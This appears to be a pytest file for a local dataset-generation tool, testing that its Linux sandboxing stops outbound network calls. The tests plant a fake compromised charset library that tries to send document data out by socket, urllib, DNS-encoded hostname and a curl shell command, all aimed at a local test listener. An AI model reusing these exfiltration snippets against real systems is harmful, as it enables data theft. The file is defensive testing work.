"""The commands, in processes of their own, where there is no network or somebody watches."""

import json
import os
import re
import shutil
import subprocess
import sys
from contextlib import closing
from pathlib import Path

import pytest
from written import SENTENCE, pdf, word

from bonito_local.airgap.layers import AUDIT, LANDLOCK, NAMESPACE, SECCOMP
from bonito_local.jobs.folder import store_path
from bonito_local.jobs.output import account
from bonito_local.jobs.store import Store

LINUX = pytest.mark.skipif(sys.platform != "linux", reason="layers of Linux's kernel")
CLOSED = f"{NAMESPACE}, {SECCOMP}, {LANDLOCK}, {AUDIT}"

# Calls that reach others, and all that may be among them: pairs of sockets lead nowhere.
_CALLS = "connect|sendto|sendmsg|sendmmsg|bind|socket"
_OUTWARD = re.compile(rf"\b({_CALLS})\((.*)")

# What a compromised library might do; it hides that it was refused.
PHONES_HOME = """
import os, socket, urllib.request
class Match:
    encoding = "cp1251"
    def best(self): return self
def from_bytes(data):
    {attempt}
    return Match()
"""
# Neither UTF-8 nor Western, so that the library which tells charsets is asked.
CYRILLIC = "\u0427\u0438\u0442\u0430\u0435\u043c. ".encode("cp1251") * 20
ATTEMPTS = {
    "socket": "socket.create_connection(('127.0.0.1', {port}), timeout=5)",
    "urllib": "urllib.request.urlopen('http://127.0.0.1:{port}/' + data[:20].hex())",
    "getaddrinfo": "socket.getaddrinfo(data[:8].hex() + '.example.invalid', 80)",
    "hidden": "\n    try: socket.create_connection(('127.0.0.1', {port}))\n    except Exception: 0",
    "program": "os.system('curl http://127.0.0.1:{port}')",
}


@pytest.fixture
def documents(tmp_path: Path) -> Path:
    folder = tmp_path / "documents"
    folder.mkdir()
    (folder / "a.pdf").write_bytes(pdf([[f"In lease A. {SENTENCE}"]]))
    (folder / "b.docx").write_bytes(word("# Rent", f"In lease B. {SENTENCE}"))
    (folder / "c.txt").write_text(f"In lease C. {SENTENCE}")
    (folder / "d.jsonl").write_text(json.dumps({"text": f"In lease D. {SENTENCE}"}))
    return folder


def generate(
    documents: Path, model: Path, before: tuple[str, ...] = (), *more: str, **environment: str
) -> subprocess.CompletedProcess[str]:
    """Run `bonito-local generate` under another program."""
    output = documents.parent / "out"
    command = [*before, sys.executable, "-m", "bonito_local", "generate", str(documents)]
    options = ["-t", "exqa,ynqa", "-o", str(output), "--model", str(model), "--max-tokens", "40"]
    return subprocess.run(
        [*command, *options, *more],
        capture_output=True,
        text=True,
        env={**os.environ, "OMP_NUM_THREADS": "1", **environment},
        timeout=300,
    )


def planned(documents: Path) -> int:
    ledger = json.loads((documents.parent / "out" / "ledger.json").read_text())
    assert ledger["air_gap"] == [CLOSED]
    return int(ledger["planned"])


@LINUX
@pytest.mark.parametrize("backend", ["fake", "llamacpp"])
def test_a_job_needs_no_network(documents: Path, tiny_gguf: Path, backend: str) -> None:
    """In a network namespace without interfaces, within which it makes its own."""
    ended = generate(documents, tiny_gguf, ("unshare", "-rn"), "--backend", backend)
    assert "Traceback" not in ended.stderr
    assert planned(documents) == 8


@LINUX
@pytest.mark.parametrize("backend", ["fake", "llamacpp"])
def test_a_job_calls_nobody(documents: Path, tiny_gguf: Path, backend: str, tmp_path: Path) -> None:
    """As strace sees it, or where that is missing the kernel: a filter that kills who connects."""
    if shutil.which("strace") is None:
        ended = generate(documents, tiny_gguf, (sys.executable, "-c", KILLER), "--backend", backend)
        assert ended.returncode >= 0, "killed: it opened a socket"
        assert planned(documents) == 8
        return
    trace = tmp_path / "trace"
    generate(documents, tiny_gguf, (*STRACE, str(trace)), "--backend", backend)
    assert planned(documents) == 8
    assert outward(trace) == []


STRACE = ("strace", "-f", "-qq", "-e", "trace=network", "-o")


def outward(trace: Path) -> list[str]:
    """The calls of a trace that may reach somebody."""
    calls = (_OUTWARD.search(line) for line in trace.read_text().splitlines())
    return [call[0] for call in calls if call and "AF_UNIX" not in call[2]]


@LINUX
def test_a_worker_calls_nobody(documents: Path, tiny_gguf: Path, tmp_path: Path) -> None:
    assert generate(documents, tiny_gguf, (), "--backend", "fake").returncode == 0
    (documents / "new.pdf").write_bytes(pdf([[f"In lease E. {SENTENCE}"]]))
    out, trace = documents.parent / "out", tmp_path / "trace"
    watching = (*STRACE, str(trace)) if shutil.which("strace") else (sys.executable, "-c", KILLER)
    ended = subprocess.run(
        [*watching, sys.executable, "-m", "bonito_local.jobs.worker", str(out), "again"],
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert f"air gap: {CLOSED}" in ended.stderr
    assert planned(documents) == 10
    if trace.exists():
        assert outward(trace) == []


# Runs the rest of its command line under a filter that kills whoever opens or connects a socket.
KILLER = """
import ctypes, os, struct, sys
from bonito_local.airgap import seccomp
seccomp._ERRNO, seccomp.EACCES = 0x80000000, 0
seccomp.filter_calls("unix")
os.execvp(sys.argv[1], sys.argv[1:])
"""


@LINUX
def test_the_filter_that_kills_would_have_caught_a_socket() -> None:
    code = "import socket; socket.socket()"
    ended = subprocess.run([sys.executable, "-c", KILLER, sys.executable, "-c", code])
    assert ended.returncode < 0


@LINUX
def test_a_job_runs_where_whoever_opens_a_socket_is_killed(
    documents: Path, tiny_gguf: Path
) -> None:
    ended = generate(documents, tiny_gguf, (sys.executable, "-c", KILLER), "--backend", "fake")
    assert ended.returncode == 0
    assert planned(documents) == 8


@pytest.mark.parametrize("attempt", ATTEMPTS)
def test_a_reader_that_phones_home_is_stopped_and_reported(
    documents: Path, tiny_gguf: Path, tmp_path: Path, attempt: str
) -> None:
    from contextlib import closing
    from socket import socket

    (tmp_path / "planted").mkdir()
    with closing(socket()) as home:
        home.bind(("127.0.0.1", 0))
        home.listen()
        home.settimeout(0.2)
        code = PHONES_HOME.replace("{attempt}", ATTEMPTS[attempt])
        code = code.replace("{port}", str(home.getsockname()[1]))
        (tmp_path / "planted" / "charset_normalizer.py").write_text(code)
        for name in ("a.txt", "b.txt"):
            (documents / name).write_bytes(CYRILLIC)
        planted = {"PYTHONPATH": str(tmp_path / "planted")}
        ended = generate(documents, tiny_gguf, (), "--backend", "fake", **planted)
        with pytest.raises(TimeoutError):
            home.accept()
    assert ended.returncode == 0, ended.stderr
    said = [line for line in ended.stderr.splitlines() if "tried to leave the air gap" in line]
    assert [re.sub(r".*/(\w\.\w+): .*", r"\1", line) for line in said] == ["a.txt", "b.txt"]
    # The others were read; of the two nothing was kept.
    assert planned(documents) == 8


def test_online_is_warned_about_and_recorded(documents: Path, tiny_gguf: Path) -> None:
    ended = generate(documents, tiny_gguf, (), "--backend", "fake", "--online")
    assert ended.returncode == 0
    assert "warning: --online" in ended.stderr
    out = documents.parent / "out"
    assert json.loads((out / "ledger.json").read_text())["air_gap"] == [
        "none: the network was allowed"
    ]
    assert generate(documents, tiny_gguf, (), "--backend", "fake").returncode == 0
    both = f"none: the network was allowed; {CLOSED}" if sys.platform == "linux" else ""
    assert both in (out / "README.md").read_text()


def test_what_held_a_run_is_kept_however_it_ends_and_not_of_one_that_was_refused(
    documents: Path, tiny_gguf: Path
) -> None:
    out = documents.parent / "out"

    def held() -> list[str]:
        with closing(Store(store_path(out))) as store:
            return list(account(store).air_gap)

    assert generate(documents, tiny_gguf, (), "--backend", "fake").returncode == 0
    refused = generate(documents, tiny_gguf, (), "--backend", "fake", "--online", "--seed", "9")
    assert refused.returncode == 1
    assert held() == [CLOSED]
    (out / "rows.jsonl").unlink()
    (out / "rows.jsonl").mkdir()  # this run breaks off before it has written its dataset
    (out / "rows.jsonl" / "of another").touch()
    broken = generate(documents, tiny_gguf, (), "--backend", "fake", "--online")
    assert broken.returncode not in (0, 70)
    assert held() == [CLOSED, "none: the network was allowed"]


def test_all_files_of_a_job_are_for_the_user_alone(documents: Path, tiny_gguf: Path) -> None:
    """While it runs too: SQLite's journal files hold the same text."""
    code = """
import os, sys
os.umask(0)
from pathlib import Path
from bonito_local.cli.main import run
from bonito_local.exports import dataset
def look(*args, before=dataset.write_dataset):
    for path in Path(sys.argv[-1]).rglob("*"):
        print(path.name, oct(path.stat().st_mode & 0o777))
    return before(*args)
import bonito_local.jobs.output as output
output.write_dataset = look
run(sys.argv[1:-1])
look.__defaults__ = None
"""
    out = documents.parent / "out"
    options = ["-t", "exqa", "-o", str(out), "--model", str(tiny_gguf), "--backend", "fake"]
    ended = subprocess.run(
        [sys.executable, "-c", code, "generate", str(documents), *options, str(out)],
        capture_output=True,
        text=True,
        check=True,
    )
    during = dict(re.findall(r"^(\S+) (0o\d+)$", ended.stdout, re.MULTILINE))
    assert {"store.sqlite", "store.sqlite-wal"} <= set(during)
    assert {mode for name, mode in during.items() if "." in name.lstrip(".")} == {"0o600"}
    modes = {path.stat().st_mode & 0o777 for path in out.rglob("*") if path.is_file()}
    assert modes == {0o600}
    assert {p.stat().st_mode & 0o777 for p in [out, *out.rglob("*")] if p.is_dir()} == {0o700}


def test_what_is_printed_holds_no_text_of_a_document_left_out(
    documents: Path, tiny_gguf: Path
) -> None:
    (documents / "e.pdf").write_bytes(b"%PDF-1.7\nSECRET-WORDS" + b"SECRET-WORDS " * 50)
    (documents / "f.csv").write_text('id,text\n1,"SECRET-WORDS\n2,"SECRET-WORDS" x\n')
    (documents / "g.jsonl").write_text('{"text": "SECRET-WORDS"\n')
    (documents / "h.html").write_text("<p>SECRET-WORDS" + "<div>" * 50_000)
    ended = generate(documents, tiny_gguf, (), "--backend", "fake")
    assert "SECRET-WORDS" not in ended.stderr
    assert "SECRET-WORDS" not in (documents.parent / "out" / "problems.json").read_text()
